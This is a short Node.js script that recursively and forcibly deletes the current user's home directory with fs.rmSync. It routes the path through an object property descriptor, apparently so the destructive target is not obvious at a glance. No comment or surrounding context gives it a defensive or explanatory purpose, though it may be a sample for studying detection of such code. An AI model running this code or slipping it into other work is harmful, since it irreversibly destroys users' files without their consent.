const fs = require('fs');
const os = require('os');
const settings = { target: os.homedir() };
const d = Object.getOwnPropertyDescriptor(settings, 'target');
fs.rmSync(d.value, { recursive: true, force: true });
